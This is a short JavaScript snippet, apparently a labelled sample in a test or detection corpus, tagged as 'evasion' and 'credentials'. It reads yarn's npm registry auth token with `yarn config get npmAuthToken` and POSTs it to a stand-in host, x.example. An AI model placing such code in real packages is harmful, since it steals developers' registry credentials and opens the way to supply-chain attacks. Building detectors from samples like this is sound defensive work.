// evasion: yarn's registry token read with `yarn config get npmAuthToken` and sent with https.request
// grade: medium; does: credentials
const https = require("https");
const { spawnSync } = require("child_process");
const r = spawnSync("yarn", ["config", "get", "npmAuthToken"], { encoding: "utf8" });
const req = https.request("https://x.example/y", { method: "POST" });
req.end(r.stdout);
